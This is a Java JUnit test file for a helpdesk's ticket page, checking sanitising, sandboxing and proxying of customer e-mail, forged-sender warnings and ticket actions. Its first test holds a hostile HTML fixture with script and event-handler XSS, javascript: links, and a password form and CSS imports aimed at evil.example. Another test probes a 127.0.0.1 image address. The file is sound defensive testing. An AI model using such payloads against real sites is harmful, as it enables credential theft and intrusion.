package odzew;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Optional;
import java.util.regex.Pattern;
import odzew.account.Actor;
import odzew.account.AuditedCommand;
import odzew.account.VisibleQueues;
import odzew.ticket.BodyType;
import odzew.ticket.CustomerResponse;
import odzew.trace.Trace;
import odzew.trace.TraceLine;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/// A ticket's page over HTTP: what is shown of a stranger's mail, and what an agent's answer does.
class TicketPageTest {

    @RegisterExtension
    static final SharedDesk desk = new SharedDesk();

    private static final Pattern FRAME = Pattern.compile("src=\"(/frame/message/(\\d+)/[^\"]+)\"");
    private static final Pattern PICTURES = Pattern.compile("data-frame=\"(/frame/message/\\d+/qi[^\"]+)\"");
    private static DeskWorld world;

    @BeforeAll
    static void start() throws Exception {
        world = desk.world();
    }

    @Test
    void hostile_html_reaches_no_page_and_is_harmless_in_its_frame() {
        long message = customer(BodyType.HTML, """
            <p onclick="steal()">Good morning</p><script>steal()</script><img src=x onerror=steal()>
            <style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b) }</style>
            <svg onload=steal()><a xlink:href="javascript:steal()">x</a></svg>
            <meta http-equiv="refresh" content="0;url=https://evil.example/">
            <form action="https://evil.example/"><input name=password></form>
            <iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
            <a href="javascript:steal()">here</a> <a href="https://shop.example/?a=1">shop</a>
            <img src="https://evil.example/pixel.gif"><p style="position:fixed;background:url(https://evil.example/c)">end</p>
            """);
        var browser = world.browser().signIn("akowalski");
        String page = browser.get("/desk/tickets/1234").body();
        assertThat(page).doesNotContain("steal()", "evil.example");
        assertThat(page).contains("sandbox=\"allow-scripts allow-popups allow-popups-to-escape-sandbox\"");
        var frame = world.browser().get(frameOf(page, message));
        assertThat(frame.statusCode()).isEqualTo(200);
        assertThat(frame.headers().firstValue("Content-Security-Policy"))
                .hasValueSatisfying(policy -> assertThat(policy)
                        .startsWith("sandbox allow-scripts allow-popups")
                        .contains("default-src 'none'")
                        .doesNotContain("allow-same-origin"));
        assertThat(frame.body())
                .contains("Good morning", "href=\"https://shop.example/?a=1\"", "rel=\"noopener noreferrer nofollow\"")
                .doesNotContain("steal", "evil.example", "<form", "<svg", "http-equiv", "<iframe", "<base");
    }

    @Test
    void pictures_from_elsewhere_are_named_only_after_somebody_asked_and_then_through_our_proxy() {
        long message = customer(BodyType.HTML, "<p>Look</p><img src=\"http://127.0.0.1:1/secret.png\" alt=\"offer\">");
        var browser = world.browser().signIn("akowalski");
        String page = browser.get("/desk/tickets/1234").body();
        assertThat(world.browser().get(frameOf(page, message)).body())
                .contains("[offer]")
                .doesNotContain("127.0.0.1", "<img");
        var asked = PICTURES.matcher(page);
        String shown = "";
        while (asked.find()) {
            shown = asked.group(1).contains("/" + message + "/") ? asked.group(1) : shown;
        }
        String body = world.browser().get(shown).body();
        var proxied = Pattern.compile("src=\"(/frame/image/[^\"]+)\"").matcher(body);
        assertThat(proxied.find()).isTrue();
        assertThat(body).doesNotContain("src=\"http");
        assertThat(world.browser().get(proxied.group(1)).statusCode()).isEqualTo(404);
    }

    @Test
    void large_html_is_read_by_its_frame_alone_which_shows_it_to_its_end() {
        long message = customer(
                BodyType.HTML,
                "<p>Look</p><img src=\"https://images.example/1.png\">" + "<p>zażółć gęślą jaźń</p>".repeat(20_000)
                        + "<p>the end of it</p>");
        var browser = world.browser().signIn("akowalski");
        for (int opened = 0; opened < 2; opened++) {
            String page = browser.get("/desk/tickets/1234").body();
            assertThat(page.lines().filter(line -> PICTURES.matcher(line).find() && line.contains("/" + message + "/")))
                    .hasSize(1);
            assertThat(world.browser().get(frameOf(page, message)).body()).contains("the end of it");
        }
    }

    @Test
    void a_picture_that_stands_in_the_text_is_not_listed_below_it_again() {
        long message = customer(BodyType.HTML, "<p>Look</p><img src=\"cid:Pic@x\">");
        world.core().database.useTransaction(handle -> handle.execute("""
                insert into attachment (token, message_id, position, stored_file_id, filename, content_type, content_id)
                select 'picture' || n, ?, n, f.id, case n when 1 then 'part-3.png' else 'plan.png' end, 'image/png',
                       case n when 1 then 'pic@x' else 'other@x' end
                  from generate_series(1, 2) n, (select id from stored_file limit 1) f
                """, message));

        assertThat(world.browser().signIn("akowalski").get("/desk/tickets/1234").body())
                .contains("plan.png")
                .doesNotContain("part-3.png");
    }

    @Test
    void a_mails_people_are_shown_and_a_forged_sender_is_named() {
        long message = customer(BodyType.PLAIN, "please change the account");
        world.core().database.useTransaction(handle -> {
            handle.execute("""
                    insert into incoming_mail (source, mailbox, envelope_sender, envelope_recipient, sha256, content_sha256,
                        size, received_at, last_received_at, arrived_at, next_attempt_at, status, verdict, ticket_id,
                        message_id, authentication, sender)
                    values ('SMTP', 'q@x.example', '', 'q@x.example', sha256('a'), sha256('b'), 1, now(), now(), now(),
                        now(), 'PROCESSED', 'NEW_TICKET', 1234, ?, 'FAILED', 'ewa@cust.example')
                    """, message);
            handle.execute("""
                    insert into incoming_mail_person (incoming_mail_id, position, role, address, name)
                    select id, 0, 'FROM', 'ewa@cust.example', 'Ewa Nowak' from incoming_mail where message_id = ?
                    union all
                    select id, 1, 'CC', 'szef@cust.example', '<b>Szef</b>' from incoming_mail where message_id = ?
                    """, message, message);
        });

        String page =
                world.browser().signIn("akowalski").get("/desk/tickets/1234").body();

        assertThat(page)
                .contains("Ewa Nowak", "ewa@cust.example", "&lt;b&gt;Szef&lt;/b&gt; &lt;szef@cust.example&gt;")
                .contains("/source\">View original</a>")
                .containsAnyOf("the address may be forged", "adres może być podrobiony");

        world.core().database.useTransaction(handle -> {
            handle.execute("update agent set email = 'ewa@cust.example' where login = 'testowy.agent17'");
            handle.execute("update incoming_mail set authentication = 'PASSED' where message_id = ?", message);
        });
        assertThat(world.browser().signIn("akowalski").get("/desk/tickets/1234").body())
                .contains("address of agent testowy.agent17");
    }

    @Test
    void a_frames_address_cannot_be_made_up() {
        long message = customer(BodyType.HTML, "<p>secret</p>");
        String page =
                world.browser().signIn("akowalski").get("/desk/tickets/1234").body();
        String right = frameOf(page, message);
        String forged = right.replace("/" + message + "/", "/" + (message - 1) + "/");
        assertThat(world.browser().get(right).statusCode()).isEqualTo(200);
        assertThat(world.browser().get(forged).statusCode()).isEqualTo(404);
    }

    @Test
    void quoted_text_is_folded_and_nothing_of_it_is_lost() {
        customer(BodyType.PLAIN, "Thank you!\n\nOn 1 May 2026 Ann <a@b.example> wrote:\n> quoted words\n> more\n");
        assertThat(world.browser().signIn("akowalski").get("/desk/tickets/1234").body())
                .contains("Thank you!", "<details class=\"fold message-fold\">", "quoted words");
    }

    @Test
    void a_comment_is_never_mailed() {
        var browser = world.browser().signIn("akowalski");
        browser.get("/desk/tickets/1234");
        browser.post("/desk/tickets/1234/comment", Map.of("comment", "Between us"));
        var entry = world.core().desk.tickets.conversation(VisibleQueues.ALL, 1234).entries().stream()
                .filter(it -> it.message().comment().equals("Between us"))
                .findFirst()
                .orElseThrow();
        assertThat(entry.deliveries()).isEmpty();
    }

    @Test
    void the_card_changes_status_agent_and_tags_by_the_cores_own_update() {
        var browser = world.browser().signIn("akowalski");
        browser.get("/desk/tickets/1234");
        browser.post("/desk/tickets/1234/change", Map.of("status", "5.0", "agent", "akowalski", "tags", "pilne, vip"));
        var ticket = world.core().tickets.get(1234, VisibleQueues.ALL);
        assertThat(ticket.statusId()).isEqualTo(5);
        assertThat(ticket.agentLogin()).hasValue("akowalski");
        assertThat(ticket.tags()).containsExactly("pilne", "vip");
        browser.post("/desk/tickets/1234/change", Map.of("agent", ""));
        assertThat(world.core().tickets.get(1234, VisibleQueues.ALL).agentLogin())
                .isEmpty();
        assertThat(world.core().tickets.get(1234, VisibleQueues.ALL).tags()).containsExactly("pilne", "vip");
    }

    @Test
    void the_history_of_an_imported_ticket_names_its_origin_in_both_languages_and_the_wire_does_not() throws Exception {
        long ticket = world.open("anna@klient.example", "From before");
        desk.database()
                .useTransaction(handle -> handle.execute(
                        "update ticket set imported_from = 'firma.thulium.com', imported_at = now() where id = ?",
                        ticket));
        String page = "/desk/tickets/" + ticket;
        assertThat(world.browser().signIn("akowalski").get(page).body()).contains("Imported from firma.thulium.com");
        assertThat(world.browser()
                        .with("Accept-Language", "pl")
                        .signIn("akowalski")
                        .get(page)
                        .body())
                .contains("Zaimportowane z firma.thulium.com");
        assertThat(new Trace(world.core().database).follow("#" + ticket))
                .extracting(TraceLine::text)
                .contains("ticket " + ticket + " imported from firma.thulium.com");
    }

    private static long customer(BodyType type, String body) {
        return world.core()
                .tickets
                .customerResponse(
                        1234,
                        new CustomerResponse(body, type, Optional.empty()),
                        AuditedCommand.of(Actor.system("test"), "TEST", "ticket 1234"))
                .id();
    }

    private static String frameOf(String page, long message) {
        var frames = FRAME.matcher(page);
        while (frames.find()) {
            if (frames.group(2).equals(Long.toString(message))) {
                return frames.group(1).replace("&amp;", "&");
            }
        }
        throw new AssertionError("no frame of message " + message);
    }
}
